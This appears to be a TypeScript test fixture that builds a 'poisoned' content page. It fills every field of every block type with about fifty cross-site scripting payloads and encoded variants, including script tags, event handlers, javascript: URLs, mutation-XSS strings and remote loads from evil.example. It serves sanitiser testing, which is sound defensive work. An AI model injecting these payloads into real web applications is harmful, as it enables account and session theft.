import { blockExamples } from '@korb/contracts/content/blocks/examples';
import { Block, ContentPage } from '@korb/contracts/content/content';

/** Each calls `xss()` if any part of it is ever executed. */
const vectors = [
	'<script>xss()</script>',
	'<script src=//evil.example/x.js></script>',
	'<img src=x onerror=xss()>',
	'<img/src=x/onerror=xss()//',
	'<svg onload=xss()>',
	'<svg><script>xss()</script></svg>',
	'<svg><animate onbegin=xss() attributeName=x dur=1s>',
	'<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>',
	'<math><mtext><form><mglyph><style></math><img src onerror=xss()>',
	'<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
	'<iframe src=javascript:xss()></iframe>',
	'<object data=javascript:xss()></object>',
	'<embed src=javascript:xss()>',
	'<a href=javascript:xss()>x</a>',
	'<a href="data:text/html,<script>xss()</script>">x</a>',
	'<a href=# onmouseover=xss() onfocus=xss() autofocus>x</a>',
	'<form action=javascript:xss()><button autofocus onfocus=xss()>x</button></form>',
	'<input autofocus onfocus=xss()>',
	'<details open ontoggle=xss()><summary>x</summary></details>',
	'<video><source onerror=xss()></video>',
	'<audio src onloadstart=xss()>',
	'<body onload=xss()>',
	'<marquee onstart=xss()>x</marquee>',
	'<style>@import "//evil.example/x.css";</style>',
	'<link rel=stylesheet href=//evil.example/x.css>',
	'<meta http-equiv=refresh content="0;url=javascript:xss()">',
	'<base href=//evil.example/>',
	'<template><script>xss()</script></template>',
	'<noscript><p title="</noscript><img src=x onerror=xss()>">',
	'<!--><img src=x onerror=xss()>-->',
	'<![CDATA[<script>xss()</script>]]>',
	'<p style="background:url(javascript:xss())">x</p>',
	'<p id=korb-boot>{}</p>',
	'<img name=body><img name=getElementById>',
	'</title><script>xss()</script>',
	'</textarea><script>xss()</script>',
	'</style><script>xss()</script>',
	'</script><script>xss()</script>',
	'<!--<script>',
	'javascript:xss()',
	'java\tscript:xss()',
	'data:text/html,<script>xss()</script>',
	'vbscript:xss()',
	'//evil.example/x.js',
	'{{constructor.constructor("xss()")()}}',
	'$' + '{xss()}',
	'red;background:url(javascript:xss())',
	'expression(xss())',
	'__proto__',
	'\u2028xss()\u2029',
	'<img src=1 href=1 onerror="xss()"></img>',
	'<select autofocus onfocus=xss()><option>x</select>',
	'<table background=javascript:xss()><tr><td>x',
	'<isindex type=image src=1 onerror=xss()>',
	'<button popovertarget=x>x</button><div popover id=x onbeforetoggle=xss()>x</div>',
	'feed:javascript:xss()',
];

const wrappers: ((vector: string) => string)[] = [
	(vector) => vector,
	(vector) => `">${vector}`,
	(vector) => `'>${vector}`,
	(vector) => vector.replace(/[a-z]+/g, (word, at) => (at % 2 ? word.toUpperCase() : word)),
	(vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
	(vector) => vector.replaceAll('<', '%3C').replaceAll('>', '%3E'),
	(vector) => `Guten Tag\n${vector}`,
	(vector) => `<${vector}`,
	(vector) => vector.replace(/[<:]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
	(vector) => `--></p></div>${vector}<p>`,
];

const all = vectors.flatMap((vector) => wrappers.map((wrap) => wrap(vector)));
export const payloads = [...new Set(all)].slice(0, 500);

export type Row = Record<PropertyKey, unknown>;

/** A page with each payload in every field of every block type that accepts it. */
export function poisonedPage(
	payloads: string[],
	except: string[] = [],
): { page: ContentPage; filled: number } {
	const left = ['section', 'column', ...except];
	let filled = 0;
	const children = payloads.map((payload) =>
		Object.values(blockExamples)
			.filter(({ type }) => !left.includes(type))
			.map((example) => {
				const block = Block.parse(example);
				for (const [holder, key] of leavesOf(block as Row)) {
					const before = holder[key];
					holder[key] = payload.slice(0, 150);
					if (Block.safeParse(block).success) filled++;
					else holder[key] = before;
				}
				return block;
			}),
	);
	const [first = ''] = payloads;
	const page = ContentPage.parse({
		meta: { title: first, description: first, keywords: payloads },
		blocks: children.map((blocks) => ({ type: 'section', children: blocks })),
	});
	return { page, filled };
}

export function leavesOf(value: Row): [holder: Row, key: string][] {
	return Object.entries(value).flatMap(([key, part]): [Row, string][] => {
		if (typeof part === 'string') return key === 'type' || key === 'kind' ? [] : [[value, key]];
		return typeof part === 'object' && part !== null ? leavesOf(part as Row) : [];
	});
}
